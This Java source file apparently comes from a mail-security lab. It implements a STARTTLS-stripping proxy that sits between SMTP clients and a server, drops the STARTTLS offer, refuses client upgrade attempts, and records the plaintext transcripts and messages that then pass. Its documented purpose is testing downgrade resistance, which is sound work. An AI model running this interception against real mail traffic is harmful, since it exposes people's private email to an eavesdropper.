package io.mxguard.lab.smtp;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * StartTlsStripper - the on-path TLS downgrade attacker of DESIGN §4: a TCP proxy from its listening
 * address to one upstream SMTP server that removes STARTTLS from EHLO replies and reads what then
 * passes in plaintext.
 *
 * <p>Every byte passes on unchanged, in both directions, except two: the STARTTLS line of a 250 reply
 * is dropped (the reply stays a valid multi-line reply, its last line "250 "), and a STARTTLS command
 * the client sends anyway is answered "454 4.7.0 TLS not available" by the stripper and never reaches
 * the server. The server-to-client direction is read reply by reply; the other line by line.
 *
 * <p>Records, per connection, the plaintext transcript and what the stripper did
 * ({@link #connections()}), and every message sent through it between DATA's 354 and the final "."
 * ({@link #readMessages()}): the evidence that the attacker read the mail. BDAT (CHUNKING) is not
 * followed; the lab servers do not offer it.
 *
 * <p>Bounds: lines over {@value StripperSession#MAX_LINE} octets pass on in pieces, uninterpreted; a
 * reply is held for rewriting up to {@value StripperSession#MAX_REPLY_LINES} lines; a transcript keeps
 * {@value StripperSession#MAX_TRANSCRIPT_LINES} lines; a read message keeps 16 MiB; the stripper keeps
 * the records of the last {@value #KEPT} connections and messages; it serves {@value #SESSIONS}
 * connections at once (more wait to be accepted), each on two pool threads; an idle side is dropped
 * after {@link #IDLE_TIMEOUT}. Thread-safe; {@link #close()} frees the port and every thread.
 */
public final class StartTlsStripper implements AutoCloseable {
    static final Duration CONNECT_TIMEOUT = Duration.ofSeconds(5);
    static final Duration IDLE_TIMEOUT = Duration.ofSeconds(60);
    static final int SESSIONS = 16;
    static final int KEPT = 1000;

    private final InetSocketAddress upstream;
    private final ServerSocket listener;
    private final ExecutorService pool;
    private final Semaphore slots = new Semaphore(SESSIONS);
    private final Thread acceptor;
    private final Set<StripperSession> live = ConcurrentHashMap.newKeySet();
    private final Deque<StripperSession> sessions = new ArrayDeque<>(); // guarded by itself
    private final Deque<ReadMessage> read = new ArrayDeque<>(); // guarded by itself
    private final AtomicInteger accepted = new AtomicInteger();
    private volatile boolean closed;

    private StartTlsStripper(InetSocketAddress listen, InetSocketAddress upstream) throws IOException {
        this.upstream = upstream;
        this.listener = new ServerSocket(listen.getPort(), 50, listen.getAddress());
        this.pool = Executors.newFixedThreadPool(2 * SESSIONS, r -> {
            Thread t = new Thread(r, "lab-stripper-pump");
            t.setDaemon(true);
            return t;
        });
        this.acceptor = new Thread(this::acceptLoop, "lab-stripper-accept:" + listener.getLocalPort());
        acceptor.setDaemon(true);
    }

    /** start - listen on {@code listen} (port 0: any free one) and relay each connection to {@code upstream}. */
    public static StartTlsStripper start(InetSocketAddress listen, InetSocketAddress upstream) throws IOException {
        StartTlsStripper stripper = new StartTlsStripper(Objects.requireNonNull(listen, "listen"),
                Objects.requireNonNull(upstream, "upstream"));
        stripper.acceptor.start();
        return stripper;
    }

    /** address - where clients connect: the attacker on the path to {@link #upstream()}. */
    public InetSocketAddress address() {
        return new InetSocketAddress(listener.getInetAddress(), listener.getLocalPort());
    }

    /** upstream - the server every connection is relayed to. */
    public InetSocketAddress upstream() {
        return upstream;
    }

    /** connections - what the stripper saw and did on each connection (the last {@value #KEPT}), oldest first. */
    public List<ProxiedConnection> connections() {
        List<StripperSession> copy;
        synchronized (sessions) {
            copy = new ArrayList<>(sessions);
        }
        return copy.stream().map(StripperSession::snapshot).toList();
    }

    /** readMessages - every message that passed in plaintext (the last {@value #KEPT}), oldest first. */
    public List<ReadMessage> readMessages() {
        synchronized (read) {
            return List.copyOf(read);
        }
    }

    /** accepted - how many connections the stripper accepted. */
    public int accepted() {
        return accepted.get();
    }

    void execute(Runnable pump) {
        pool.execute(pump);
    }

    void read(ReadMessage message) {
        synchronized (read) {
            if (read.size() == KEPT) {
                read.removeFirst();
            }
            read.addLast(message);
        }
    }

    void ended(StripperSession session) {
        if (live.remove(session)) {
            slots.release();
        }
    }

    private void acceptLoop() {
        while (!closed) {
            Socket s;
            try {
                slots.acquire();
            } catch (InterruptedException e) {
                return; // closing
            }
            try {
                s = listener.accept();
            } catch (IOException e) {
                slots.release();
                return; // closed
            }
            StripperSession session = new StripperSession(this, s, accepted.incrementAndGet());
            live.add(session);
            synchronized (sessions) {
                if (sessions.size() == KEPT) {
                    sessions.removeFirst();
                }
                sessions.addLast(session);
            }
            try {
                pool.execute(session);
            } catch (RuntimeException e) {
                session.abort(); // closing
                ended(session);
            }
        }
    }

    @Override
    public void close() {
        closed = true;
        try {
            listener.close();
        } catch (IOException ignored) {
            // freeing the port is all we wanted
        }
        acceptor.interrupt();
        live.forEach(StripperSession::abort);
        pool.shutdownNow();
        try {
            acceptor.join(2000);
            pool.awaitTermination(2, TimeUnit.SECONDS);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
